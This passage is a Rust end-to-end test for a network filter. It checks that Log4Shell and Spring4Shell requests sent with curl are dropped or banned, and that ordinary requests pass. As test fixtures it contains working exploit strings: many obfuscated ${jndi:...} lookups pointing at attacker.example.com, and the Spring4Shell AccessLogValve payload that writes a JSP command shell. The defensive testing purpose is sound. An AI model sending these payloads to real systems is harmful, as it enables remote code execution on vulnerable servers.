//! Attack signatures end to end (issue 6), with a real HTTP server and real
//! clients: the agent started from a config with the three packs of
//! `rules/signatures/`, a small Python HTTP server (GET and POST, logging
//! every request it receives) in the server namespace, `curl` in the client
//! namespace sending from one source address per exploit (a ban lasts
//! 600 s), over IPv4 and IPv6.
//!
//! - `kernel_signatures_*`: every Log4Shell and Spring4Shell variant the
//!   packs' literal contents cover (each JNDI protocol, URL-encoded,
//!   nested one-letter lookups, base64; in the URI, in headers, in POST
//!   bodies) is dropped by the kernel: the TCP handshake completes, the
//!   request never reaches the server, and the source is banned when the
//!   matching rule says so (`edgefilter_ban`, read from the pack). Ordinary
//!   requests, including ones with `jndi` in harmless places, pass before
//!   and after.
//! - `deep_inspection_*`: obfuscations no rule content covers (multi-letter
//!   lookups, `${k8s:k5:-x}` defaults, double and full percent-encoding)
//!   pass the kernel, which hands them to the agent's deep inspection; the
//!   source must be banned within about a second.
//!
//! Before anything runs, each request (as curl writes it) is checked
//! against the packs with the reference matcher (`filter_common`), so the
//! split between "kernel" and "deep inspection" cases follows the rules as
//! they are, and so does whether a ban is expected.
use std::collections::HashMap;
use std::net::IpAddr;
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use edgefilter_tests::harness::{Harness, CLIENT, SERVER, SERVER_V6};
use filter_common::signatures::{http_regions, load_pack, normalise_request, SigAction, Signature, SignaturePack};

const SERVER_V4: &str = "198.18.0.2";
/// The clients that send only ordinary requests: never banned.
const BENIGN_V6: &str = "2001:db8:e2e::1";
const BENIGN_V4: &str = "198.18.0.1";
const HOME_NET: &str = "[198.18.0.2,2001:db8:e2e::2]";
const PACKS: [&str; 3] = ["log4shell", "spring4shell", "amplification"];
/// `signatures.scan_bytes` (the default): what the kernel looks at.
const SCAN_BYTES: usize = 1024;
/// Deep inspection sees the first bytes of a packet (`SIG_EVENT_BYTES`).
const EVENT_BYTES: usize = filter_common::maps::SIG_EVENT_BYTES as usize;
/// How long curl waits for a request the filter may drop.
const DROP_WAIT: &str = "3";
/// How long a request to a banned source's server may take before it
/// counts as dropped (its SYN never gets an answer).
const BAN_WAIT: &str = "2";

/// An HTTP request as curl sends it.
#[derive(Clone, Debug)]
struct Req {
    /// Sent as `X-Case: <id>` and logged by the server: tells which
    /// requests it received.
    id: String,
    what: &'static str,
    path: String,
    /// `Name: value`, replacing curl's own header of that name.
    headers: Vec<String>,
    /// A POST body (`--data-binary`).
    body: Option<String>,
}

fn get(id: &str, what: &'static str, path: &str) -> Req {
    Req { id: id.to_string(), what, path: path.to_string(), headers: Vec::new(), body: None }
}

fn post(id: &str, what: &'static str, path: &str, body: &str) -> Req {
    Req { body: Some(body.to_string()), ..get(id, what, path) }
}

impl Req {
    fn header(mut self, h: &str) -> Req {
        self.headers.push(h.to_string());
        self
    }

    fn has_header(&self, name: &str) -> bool {
        self.headers.iter().any(|h| h.to_ascii_lowercase().starts_with(&format!("{}:", name.to_ascii_lowercase())))
    }

    /// The request's bytes as curl 7.88 writes them (one segment: they are
    /// far below the MSS): request line, Host, User-Agent, Accept, the extra
    /// headers, then for a POST Content-Length and Content-Type and the body.
    /// Header order and curl's version do not matter to any rule here.
    fn wire(&self, server: &str) -> Vec<u8> {
        let method = if self.body.is_some() { "POST" } else { "GET" };
        let mut s = format!("{method} {} HTTP/1.1\r\nHost: {}\r\n", self.path, url_host(server));
        if !self.has_header("User-Agent") {
            s += "User-Agent: curl/7.88.1\r\n";
        }
        s += "Accept: */*\r\n";
        for h in &self.headers {
            s += &format!("{h}\r\n");
        }
        s += &format!("X-Case: {}\r\n", self.id);
        match &self.body {
            Some(body) => {
                s += &format!("Content-Length: {}\r\n", body.len());
                if !self.has_header("Content-Type") {
                    s += "Content-Type: application/x-www-form-urlencoded\r\n";
                }
                s += "\r\n";
                s += body;
            }
            None => s += "\r\n",
        }
        s.into_bytes()
    }

    fn curl_args(&self, src: &str, server: &str, max_time: &str) -> Vec<String> {
        let mut args: Vec<String> = ["curl", "-g", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{time_connect}", "--max-time", max_time, "--interface", src]
            .map(String::from)
            .to_vec();
        args.extend(["-H".to_string(), format!("X-Case: {}", self.id)]);
        for h in &self.headers {
            args.extend(["-H".to_string(), h.clone()]);
        }
        if let Some(body) = &self.body {
            args.extend(["--data-binary".to_string(), body.clone()]);
        }
        args.push(format!("http://{}{}", url_host(server), self.path));
        args
    }
}

fn url_host(server: &str) -> String {
    if server.contains(':') {
        format!("[{server}]")
    } else {
        server.to_string()
    }
}

/// The server address of the family of `src`.
fn server_for(src: &str) -> &'static str {
    if src.contains(':') {
        SERVER_V6
    } else {
        SERVER_V4
    }
}

/// What curl reported.
#[derive(Debug)]
struct Curl {
    exit: i32,
    status: String,
    /// The TCP handshake completed.
    connected: bool,
    /// Shown in failure messages (through `Debug`).
    #[allow(dead_code)]
    stderr: String,
}

impl Curl {
    fn ok(&self) -> bool {
        self.exit == 0 && self.status == "200"
    }
    /// No HTTP response within the wait (curl's exit 28).
    fn timed_out(&self) -> bool {
        self.exit == 28 && self.status == "000"
    }
}

fn curl_spawn(h: &Harness, req: &Req, src: &str, max_time: &str) -> Child {
    Command::new("ip")
        .args(["netns", "exec", &h.ns.names[CLIENT]])
        .args(req.curl_args(src, server_for(src), max_time))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start curl")
}

fn curl_result(out: Output) -> Curl {
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let mut words = stdout.split_whitespace();
    let status = words.next().unwrap_or("").to_string();
    let connected = words.next().and_then(|t| t.parse::<f64>().ok()).is_some_and(|t| t > 0.0);
    Curl { exit: out.status.code().unwrap_or(-1), status, connected, stderr: String::from_utf8_lossy(&out.stderr).into_owned() }
}

fn curl(h: &Harness, req: &Req, src: &str, max_time: &str) -> Curl {
    curl_result(curl_spawn(h, req, src, max_time).wait_with_output().unwrap())
}

/// Runs every (request, source) at once; results in the same order.
fn curl_all(h: &Harness, reqs: &[(Req, String)], max_time: &str) -> Vec<Curl> {
    let children: Vec<Child> = reqs.iter().map(|(r, src)| curl_spawn(h, r, src, max_time)).collect();
    children.into_iter().map(|c| curl_result(c.wait_with_output().unwrap())).collect()
}

/// A harmless request from `src` (to tell whether the source is banned).
fn probe(id: &str) -> Req {
    get(id, "harmless probe", "/index.html")
}

// ---------------------------------------------------------------------
// The packs, and which rule a request meets.

fn pack_path(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..").join("rules").join("signatures").join(format!("{name}.rules"))
}

fn load_packs() -> Vec<(&'static str, SignaturePack)> {
    let vars: HashMap<String, String> =
        [("HOME_NET", HOME_NET), ("EXTERNAL_NET", "!$HOME_NET")].into_iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
    PACKS.iter().map(|&p| (p, load_pack(&pack_path(p), &vars, false).unwrap_or_else(|e| panic!("{p}: {e:?}")))).collect()
}

/// The first drop rule of each pack that matches `payload` sent from `src`
/// to the server's port 80, as the kernel sees it.
fn matching<'a>(
    packs: &'a [(&'static str, SignaturePack)],
    src: &str,
    payload: &[u8],
    http: Option<&filter_common::signatures::HttpRegions>,
) -> Vec<(&'static str, &'a Signature)> {
    let src_ip: IpAddr = src.parse().unwrap();
    let dst_ip: IpAddr = server_for(src).parse().unwrap();
    packs
        .iter()
        .filter_map(|(name, pack)| {
            pack.rules.iter().find(|r| r.action == SigAction::Drop && r.matches(6, src_ip, 40000, dst_ip, 80, &[80], payload, http)).map(|r| (*name, r))
        })
        .collect()
}

/// Where a request is caught.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Expect {
    /// By the kernel, by this rule.
    Kernel(u32),
    /// Only after deep inspection's normalisation.
    Deep,
}

/// An exploit request with its own source, checked against the packs.
struct Planned {
    req: Req,
    src: String,
    /// The order counting it: `signatures:<pack>`.
    order: String,
    sid: u32,
    /// The rule bans its source.
    bans: bool,
}

fn plan(packs: &[(&'static str, SignaturePack)], req: Req, expect: Expect, src: String) -> Planned {
    let wire = req.wire(server_for(&src));
    let raw = &wire[..wire.len().min(SCAN_BYTES)];
    let raw_http = http_regions(raw);
    let in_kernel = matching(packs, &src, raw, raw_http.as_ref());
    let shown = String::from_utf8_lossy(&wire).into_owned();
    let (pack, rule) = match expect {
        Expect::Kernel(sid) => {
            assert_eq!(
                in_kernel.len(),
                1,
                "{} ({}): one pack must catch it in the kernel, got {:?}\n{shown}",
                req.id,
                req.what,
                in_kernel.iter().map(|(p, r)| (p, r.sid)).collect::<Vec<_>>()
            );
            assert_eq!(in_kernel[0].1.sid, sid, "{} ({}): caught by another rule than expected\n{shown}", req.id, req.what);
            in_kernel[0]
        }
        Expect::Deep => {
            assert!(
                in_kernel.is_empty(),
                "{} ({}): the kernel already catches it (sid {:?}): not a deep-inspection case\n{shown}",
                req.id,
                req.what,
                in_kernel.iter().map(|(_, r)| r.sid).collect::<Vec<_>>()
            );
            let seen = &wire[..wire.len().min(EVENT_BYTES)];
            let (norm, norm_http) = normalise_request(seen);
            let deep = matching(packs, &src, &norm, norm_http.as_ref());
            assert_eq!(deep.len(), 1, "{} ({}): one pack must catch it after normalisation: {}", req.id, req.what, String::from_utf8_lossy(&norm));
            deep[0]
        }
    };
    Planned { order: format!("signatures:{pack}"), sid: rule.sid, bans: rule.ban_seconds.is_some(), req, src }
}

/// The `i`-th exploit source of a test (`base`, 100 or 200, keeps tests
/// apart), every other one IPv4.
fn source(base: u32, i: usize) -> String {
    let n = base + i as u32;
    assert!(n < 255);
    if i.is_multiple_of(2) {
        format!("2001:db8:e2e::{n}")
    } else {
        format!("198.18.0.{n}")
    }
}

// ---------------------------------------------------------------------
// Requests.

const LDAP: &str = "ldap://attacker.example.com:1389/Exploit";

/// Variants the packs' literal contents catch (the rule each one meets
/// first in its pack).
fn kernel_exploits() -> Vec<(Req, Expect)> {
    use Expect::Kernel;
    let b64 = "JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlLmNvbS9hfQ=="; // ${jndi:ldap://attacker.example.com/a}
    let pipeline = "class.module.classLoader.resources.context.parent.pipeline.first";
    // The public exploit's pattern: a JSP web shell written through the access log.
    let pattern = "%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di";
    vec![
        // Log4Shell: ${jndi:<protocol> (sids 9000101-9000108), everywhere Log4j logs.
        (get("l-ldap-uri", "${jndi:ldap in the query", &format!("/?q=${{jndi:{LDAP}}}")), Kernel(9000101)),
        (get("l-ldaps-ua", "${jndi:ldaps in User-Agent", "/").header("User-Agent: ${jndi:ldaps://attacker.example.com/a}"), Kernel(9000101)),
        (get("l-rmi-apiversion", "${jndi:rmi in X-Api-Version", "/").header("X-Api-Version: ${jndi:rmi://attacker.example.com:1099/a}"), Kernel(9000102)),
        (get("l-dns-path", "${jndi:dns in the path", "/${jndi:dns://attacker.example.com/a}"), Kernel(9000103)),
        (get("l-iiop-referer", "${jndi:iiop in Referer", "/").header("Referer: ${jndi:iiop://attacker.example.com/a}"), Kernel(9000104)),
        (get("l-corba-xff", "${jndi:corba in X-Forwarded-For", "/").header("X-Forwarded-For: ${jndi:corba://attacker.example.com/a}"), Kernel(9000105)),
        (get("l-nds-cookie", "${jndi:nds in a cookie", "/").header("Cookie: session=${jndi:nds://attacker.example.com/a}"), Kernel(9000106)),
        (post("l-nis-form", "${jndi:nis in a form body", "/login", "user=${jndi:nis://attacker.example.com/a}&password=x"), Kernel(9000107)),
        (post("l-http-json", "${jndi:http in a JSON body", "/api/users", "{\"name\":\"${jndi:http://attacker.example.com/a}\"}").header("Content-Type: application/json"), Kernel(9000108)),
        (get("l-https-mixedcase-ua", "${JnDi:hTtPs in User-Agent (case)", "/").header("User-Agent: ${JnDi:hTtPs://attacker.example.com/a}"), Kernel(9000108)),
        // URL-encoded (9000110 in the URI, 9000111 in the body).
        (get("l-urlenc-uri", "%24%7Bjndi%3A in the query", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.com%2Fa%7D"), Kernel(9000110)),
        (get("l-urlenc-brace-uri", "$%7Bjndi: in the query", "/?q=$%7Bjndi:ldap://attacker.example.com/a%7D"), Kernel(9000110)),
        (post("l-urlenc-body", "%24%7Bjndi%3A in a form body", "/search", "q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example.com%2Fa%7D"), Kernel(9000111)),
        // Nested one-letter lookups (9000120-9000124).
        (get("l-lower-uri", "${${lower:j}ndi: in the query", "/?q=${${lower:j}ndi:${lower:l}dap://attacker.example.com/a}"), Kernel(9000120)),
        (get("l-upper-ua", "${${upper:j}ndi: in User-Agent", "/").header("User-Agent: ${${upper:j}ndi:${upper:l}dap://attacker.example.com/a}"), Kernel(9000121)),
        (get("l-emptykey-apiversion", "${${::-j}${::-n}${::-d}${::-i}: in X-Api-Version", "/").header("X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example.com/a}"), Kernel(9000122)),
        (get("l-env-uri", "${${env:NaN:-j}ndi in the query", "/?q=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example.com/a}"), Kernel(9000123)),
        (post("l-env-body", "${${env:BARFOO:-j}ndi in a form body", "/feedback", "text=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example.com/a}"), Kernel(9000123)),
        (get("l-date-header", "${${date:'j'}${date:'n'}... in a header", "/").header("X-Request-Id: ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example.com/a}"), Kernel(9000124)),
        // Base64 of ${jndi (9000130).
        (get("l-base64-uri", "base64 JHtqbmRp in the query", &format!("/?token={b64}")), Kernel(9000130)),
        (get("l-base64-header", "base64 JHtqbmRp in a header", "/").header(&format!("X-Token: {b64}")), Kernel(9000130)),
        // Spring4Shell: the AccessLogValve properties (9000001 in the query,
        // 9000002 in a form body), any separator (9000003 query, 9000004 body).
        (
            get("s-pattern-query", "AccessLogValve pattern in a GET query", &format!("/?{pipeline}.pattern={pattern}"))
                .header("suffix: %>//")
                .header("c1: Runtime")
                .header("c2: <%"),
            Kernel(9000001),
        ),
        (
            post(
                "s-valve-form",
                "the five AccessLogValve properties in a POST form body",
                "/index",
                &format!(
                    "{pipeline}.pattern={pattern}&{pipeline}.suffix=.jsp&{pipeline}.directory=webapps/ROOT&{pipeline}.prefix=tomcatwar&{pipeline}.fileDateFormat="
                ),
            )
            .header("suffix: %>//")
            .header("c1: Runtime")
            .header("c2: <%"),
            Kernel(9000002),
        ),
        (get("s-encoded-dots", "class%2Emodule%2EclassLoader in the query", "/?class%2Emodule%2EclassLoader.DefaultAssertionStatus=nonsense"), Kernel(9000003)),
        (get("s-brackets", "class[module][classLoader] in the query", "/?class[module][classLoader].URLs[0]=0"), Kernel(9000003)),
        (get("s-probe", "the DefaultAssertionStatus probe", "/?class.module.classLoader.DefaultAssertionStatus=nonsense"), Kernel(9000003)),
        (post("s-encoded-body", "class%2Emodule%2EclassLoader in a form body", "/index", "class%2Emodule%2EclassLoader.URLs%5B0%5D=0"), Kernel(9000004)),
    ]
}

/// Obfuscations no rule content covers: only deep inspection sees them.
fn deep_exploits() -> Vec<(Req, Expect)> {
    use Expect::Deep;
    vec![
        (
            get(
                "d-lower-words-uri",
                "${${lower:jndi}:${lower:rmi}: (multi-letter lookups) in the query",
                "/?q=${${lower:jndi}:${lower:rmi}://attacker.example.com/a}",
            ),
            Deep,
        ),
        (
            get("d-upper-words-apiversion", "${${upper:jndi}:${upper:ldap}: in X-Api-Version", "/")
                .header("X-Api-Version: ${${upper:jndi}:${upper:ldap}://attacker.example.com/a}"),
            Deep,
        ),
        (
            get("d-k8s-ua", "${${k8s:k5:-J}${k8s:k5:-ND}i: in User-Agent", "/")
                .header("User-Agent: ${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example.com/a}"),
            Deep,
        ),
        (
            get(
                "d-double-encoded-uri",
                "%2524%257Bjndi (double percent-encoding) in the query",
                "/?q=%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example.com%252Fa%257D",
            ),
            Deep,
        ),
        (
            post(
                "d-full-encoded-body",
                "%24%7B%6A%6E%64%69 (every letter encoded) in a form body",
                "/search",
                "q=%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2Fattacker.example.com%2Fa%7D",
            ),
            Deep,
        ),
        (
            get(
                "d-spring-encoded-uri",
                "%63lass%2E%6Dodule%2EclassLoader.resources... in the query",
                "/?%63lass%2E%6Dodule%2EclassLoader.resources.context.parent.pipeline.first.pattern=x",
            ),
            Deep,
        ),
    ]
}

/// Ordinary requests, some with `jndi` (or `${`) in harmless places.
fn ordinary(tag: &str) -> Vec<Req> {
    vec![
        get(&format!("b-plain-{tag}"), "a plain GET", "/"),
        get(&format!("b-query-{tag}"), "jndi in a search query", "/search?q=jndi+tutorial"),
        get(&format!("b-path-{tag}"), "jndi in the path", "/docs/jndi/ldap-lookups.html"),
        get(&format!("b-header-{tag}"), "jndi in a header", "/").header("X-Note: about jndi lookups"),
        get(&format!("b-ua-{tag}"), "jndi in User-Agent", "/").header("User-Agent: Mozilla/5.0 (X11; Linux x86_64) jndi-explorer/2.1"),
        get(&format!("b-scheme-{tag}"), "jndi:ldap without a lookup", "/wiki?page=jndi:ldap+URLs+explained"),
        get(&format!("b-template-{tag}"), "a ${...} that is no JNDI lookup", "/?greeting=${user}&price=%24%7Bamount%7D"),
        get(&format!("b-class-{tag}"), "class and module parameters", "/courses?class=economy&module=finance"),
        post(&format!("b-form-{tag}"), "jndi in a form body", "/comments", "topic=JNDI&text=we+removed+the+jndi+lookup+from+our+logging"),
        post(&format!("b-json-{tag}"), "jndi in a JSON body", "/api/notes", "{\"comment\":\"jndi lookups are disabled since log4j 2.16\"}")
            .header("Content-Type: application/json"),
    ]
}

// ---------------------------------------------------------------------
// The server.

/// A Python HTTP server on port 80 (IPv4 and IPv6) that answers 200 to GET
/// and POST and logs `case=<X-Case> src=<address> <method> <path>` for
/// every request it reads (after reading a POST's body).
const SERVER_PY: &str = r#"
import http.server, socket, sys

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"

    def answer(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        sys.stdout.write("case=%s src=%s %s %s body=%d\n" % (self.headers.get("X-Case", "-"), self.client_address[0], self.command, self.path, len(body)))
        sys.stdout.flush()
        data = b"edgefilter test page\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = answer
    do_POST = answer

    def log_message(self, *args):
        pass

class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    request_queue_size = 256
    daemon_threads = True

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()

sys.stdout.write("listening\n")
sys.stdout.flush()
Server(("::", 80), Handler).serve_forever()
"#;

/// A process in a namespace, killed (with its process group) on drop.
struct Daemon {
    child: Child,
    log: PathBuf,
}

impl Daemon {
    fn http_server(h: &Harness) -> Daemon {
        let script = h.dir.0.join("server.py");
        std::fs::write(&script, SERVER_PY).unwrap();
        let log = h.dir.0.join("server.log");
        let file = std::fs::File::create(&log).unwrap();
        let child = Command::new("ip")
            .args(["netns", "exec", &h.ns.names[SERVER], "python3", "-u"])
            .arg(&script)
            .stdin(Stdio::null())
            .stdout(file.try_clone().unwrap())
            .stderr(file)
            .process_group(0)
            .spawn()
            .expect("start python3");
        let mut d = Daemon { child, log };
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            if let Ok(Some(status)) = d.child.try_wait() {
                panic!("the HTTP server exited with {status}: {}", d.log());
            }
            let out = Command::new("ip").args(["netns", "exec", &h.ns.names[SERVER], "ss", "-Hlnt", "sport = :80"]).output().unwrap();
            if !String::from_utf8_lossy(&out.stdout).trim().is_empty() {
                break;
            }
            assert!(Instant::now() < deadline, "the HTTP server is not listening: {}", d.log());
            std::thread::sleep(Duration::from_millis(20));
        }
        d
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// Whether the server received the request with this case id.
    fn received(&self, id: &str) -> bool {
        let needle = format!("case={id} ");
        self.log().lines().any(|l| l.starts_with(&needle))
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        // SAFETY: a plain syscall on the process group this test created.
        unsafe {
            libc::kill(-(self.child.id() as libc::pid_t), libc::SIGKILL);
        }
        let _ = self.child.wait();
    }
}

// ---------------------------------------------------------------------
// The agent.

/// Sum of the samples of `metric` whose labels contain every one of `labels`.
fn metric(metrics: &str, name: &str, labels: &[&str]) -> u64 {
    metrics
        .lines()
        .filter(|l| l.starts_with(&format!("{name}{{")) && labels.iter().all(|x| l.contains(x)))
        .map(|l| l.rsplit(' ').next().unwrap().parse::<f64>().unwrap() as u64)
        .sum()
}

fn dropped(h: &Harness, reason: &str) -> u64 {
    metric(&h.fetch("/metrics"), "edgefilter_packets_total", &["action=\"drop\"", &format!("reason=\"{reason}\"")])
}

/// A harness with IPv4 next to the IPv6 of `Harness`, `sources` (IPv6 and
/// IPv4) as extra client addresses, and the agent running with the three
/// packs.
fn start(tag: &str, sources: &[String]) -> Harness {
    let v6: Vec<&str> = sources.iter().map(String::as_str).filter(|s| s.contains(':')).collect();
    let mut h = Harness::new(tag, &v6);
    h.ns.exec(CLIENT, &format!("ip addr add {BENIGN_V4}/24 dev {}", h.client_if));
    for src in sources.iter().filter(|s| !s.contains(':')) {
        h.ns.exec(CLIENT, &format!("ip addr add {src}/32 dev {}", h.client_if));
    }
    h.ns.exec(SERVER, &format!("ip addr add {SERVER_V4}/24 dev {}", h.server_if));
    let packs: Vec<String> = PACKS.iter().map(|p| format!("\"{}\"", pack_path(p).canonicalize().unwrap().display())).collect();
    h.write_config(&format!("[signatures]\npacks = [{}]\n\n[signatures.vars]\nHOME_NET = \"{HOME_NET}\"\nEXTERNAL_NET = \"!$HOME_NET\"\n", packs.join(", ")));
    h.start();
    h.wait_for_sequence(0);
    let status = h.status();
    assert!(status["last_error"].is_null(), "rule set rejected: {}\n{}", status["last_error"], h.agent_log());
    for p in PACKS {
        let id = format!("signatures:{p}");
        let order = status["orders"].as_array().unwrap().iter().find(|o| o["order"] == id.as_str());
        assert!(order.is_some_and(|o| o["category"] == "attack" && o["state"] == "in-force"), "{id} in force as an attack order: {status}");
    }
    h
}

/// Every ordinary request from both never-banned clients gets its 200, and
/// the server logs it.
fn ordinary_pass(h: &Harness, server: &Daemon, tag: &str) {
    for src in [BENIGN_V6, BENIGN_V4] {
        let family = if src.contains(':') { "v6" } else { "v4" };
        for req in ordinary(&format!("{tag}-{family}")) {
            let got = curl(h, &req, src, DROP_WAIT);
            assert!(got.ok(), "{} ({}) from {src} must get a 200: {got:?}\n{}", req.id, req.what, h.agent_log());
            assert!(server.received(&req.id), "the server did not log {}: {}", req.id, server.log());
        }
    }
}

#[test]
fn kernel_signatures_drop_exploits_and_ban_their_sources_while_ordinary_requests_pass() {
    let started = Instant::now();
    let packs = load_packs();
    let cases = kernel_exploits();
    let sources: Vec<String> = (0..cases.len()).map(|i| source(100, i)).collect();
    let planned: Vec<Planned> = cases.into_iter().zip(sources.iter().cloned()).map(|((req, expect), src)| plan(&packs, req, expect, src)).collect();
    let h = start("sig", &sources);
    let server = Daemon::http_server(&h);

    // 1. Ordinary traffic passes; nothing is counted yet.
    ordinary_pass(&h, &server, "before");
    assert_eq!((dropped(&h, "signature"), dropped(&h, "banned")), (0, 0), "ordinary requests dropped: {}", h.fetch("/metrics"));
    for p in PACKS {
        assert_eq!(h.order_packets(&format!("signatures:{p}")), 0, "{p} counted ordinary traffic: {}", h.status());
    }

    // 2. The exploits, all at once, each from its own source: the handshake
    // completes, the request is dropped (no answer, ever).
    let runs: Vec<(Req, String)> = planned.iter().map(|p| (p.req.clone(), p.src.clone())).collect();
    let results = curl_all(&h, &runs, DROP_WAIT);
    let mut failures = Vec::new();
    for (p, got) in planned.iter().zip(&results) {
        if !(got.timed_out() && got.connected) {
            failures.push(format!("{} ({}, sid {}) from {}: expected a completed handshake and no answer, got {got:?}", p.req.id, p.req.what, p.sid, p.src));
        }
    }
    assert!(failures.is_empty(), "exploits not dropped:\n{}\nagent log:\n{}", failures.join("\n"), h.agent_log());

    // 3. Their sources: banned (their next harmless request gets no
    // handshake) when the rule says so, otherwise free to go on.
    let probes: Vec<(Req, String)> = planned.iter().map(|p| (probe(&format!("{}-after", p.req.id)), p.src.clone())).collect();
    let results = curl_all(&h, &probes, BAN_WAIT);
    for (p, got) in planned.iter().zip(&results) {
        let fine = if p.bans { got.timed_out() && !got.connected } else { got.ok() };
        if !fine {
            let want = if p.bans { "banned: no handshake" } else { "not banned (the rule has no edgefilter_ban): a 200" };
            failures.push(format!("after {} (sid {}) from {}: expected {want}, got {got:?}", p.req.id, p.sid, p.src));
        }
    }
    assert!(failures.is_empty(), "sources after their exploit:\n{}\nagent log:\n{}", failures.join("\n"), h.agent_log());

    // 4. Ordinary traffic from the other clients still passes.
    ordinary_pass(&h, &server, "after");

    // 5. The server never saw a dropped request, nor a banned source again.
    let log = server.log();
    for p in &planned {
        assert!(!server.received(&p.req.id), "the server received the exploit {} ({}): {log}", p.req.id, p.req.what);
        assert_eq!(server.received(&format!("{}-after", p.req.id)), !p.bans, "{}: the server's log of the probe after it: {log}", p.req.id);
    }

    // 6. Counters: each exploit's request under its pack (a banned source's
    // packets count under the rule that banned it), by reason `signature`,
    // the banned sources' probes under `banned`; nothing from the
    // amplification pack.
    let mut least: HashMap<&str, u64> = HashMap::new();
    for p in &planned {
        *least.entry(p.order.as_str()).or_default() += if p.bans { 2 } else { 1 };
    }
    for (order, n) in &least {
        let got = h.order_packets(order);
        assert!(got >= *n, "{order}: {got} packets counted, expected at least {n}: {}", h.status());
    }
    assert_eq!(h.order_packets("signatures:amplification"), 0, "{}", h.status());
    let banned_sources = planned.iter().filter(|p| p.bans).count() as u64;
    let (sig, ban) = (dropped(&h, "signature"), dropped(&h, "banned"));
    assert!(sig >= planned.len() as u64, "{sig} drops with reason signature, expected at least {}: {}", planned.len(), h.fetch("/metrics"));
    assert!(ban >= banned_sources, "{ban} drops with reason banned, expected at least {banned_sources}: {}", h.fetch("/metrics"));
    assert!(started.elapsed() < Duration::from_secs(60), "took {:?}", started.elapsed());
}

/// Polls with harmless requests from `src` until one gets no handshake
/// (the source is banned) or `deadline` passes. Returns when, after
/// `since`, the first unanswered request was sent.
fn wait_banned(h: &Harness, id: &str, src: &str, since: Instant, deadline: Instant) -> Option<Duration> {
    let mut n = 0;
    while Instant::now() < deadline {
        n += 1;
        let at = Instant::now();
        let got = curl(h, &probe(&format!("{id}-poll{n}")), src, "1");
        if got.timed_out() && !got.connected {
            return Some(at - since);
        }
        assert!(got.ok(), "a harmless request from {src} must either pass or be dropped: {got:?}");
        std::thread::sleep(Duration::from_millis(100));
    }
    None
}

/// Needs the agent's deep inspection (filter-agent/src/inspect.rs).
#[test]
fn deep_inspection_bans_the_sources_of_obfuscated_exploits() {
    let started = Instant::now();
    let packs = load_packs();
    let cases = deep_exploits();
    let sources: Vec<String> = (0..cases.len()).map(|i| source(200, i)).collect();
    let planned: Vec<Planned> = cases.into_iter().zip(sources.iter().cloned()).map(|((req, expect), src)| plan(&packs, req, expect, src)).collect();
    let h = start("sigdi", &sources);
    let server = Daemon::http_server(&h);
    ordinary_pass(&h, &server, "before");
    let banned_before = dropped(&h, "banned");

    // 1. The kernel lets each one through (the server receives it)...
    let runs: Vec<(Req, String)> = planned.iter().map(|p| (p.req.clone(), p.src.clone())).collect();
    let results = curl_all(&h, &runs, DROP_WAIT);
    let sent = Instant::now();
    for (p, got) in planned.iter().zip(&results) {
        assert!(got.connected, "{} ({}) from {}: no handshake: {got:?}", p.req.id, p.req.what, p.src);
        assert!(server.received(&p.req.id), "{} ({}): the kernel passes it to the server: {got:?} {}", p.req.id, p.req.what, server.log());
    }

    // 2. ...and deep inspection bans its source within about a second
    // (when the rule it meets after normalisation bans).
    let deadline = sent + Duration::from_secs(2);
    let waits: Vec<Option<Duration>> = std::thread::scope(|scope| {
        let h = &h;
        let threads: Vec<_> = planned.iter().map(|p| scope.spawn(move || wait_banned(h, &p.req.id, &p.src, sent, deadline))).collect();
        threads.into_iter().map(|t| t.join().unwrap()).collect()
    });
    let mut failures = Vec::new();
    for (p, waited) in planned.iter().zip(&waits) {
        match (p.bans, waited) {
            (true, None) => {
                failures.push(format!("{} ({}, sid {} after normalisation) from {}: source not banned within 2 s", p.req.id, p.req.what, p.sid, p.src))
            }
            (false, Some(t)) => failures.push(format!("{} (sid {} has no edgefilter_ban) from {}: source banned after {t:?}", p.req.id, p.sid, p.src)),
            _ => {}
        }
    }
    assert!(failures.is_empty(), "deep inspection:\n{}\nagent log:\n{}", failures.join("\n"), h.agent_log());
    // A banned source stays banned.
    for p in planned.iter().filter(|p| p.bans) {
        assert!(
            wait_banned(&h, &format!("{}-again", p.req.id), &p.src, Instant::now(), Instant::now() + Duration::from_secs(1)).is_some(),
            "{} stays banned",
            p.req.id
        );
    }

    // 3. Counted: the banned sources' packets under reason `banned` and the
    // order of the rule that banned them.
    let bans = planned.iter().filter(|p| p.bans).count() as u64;
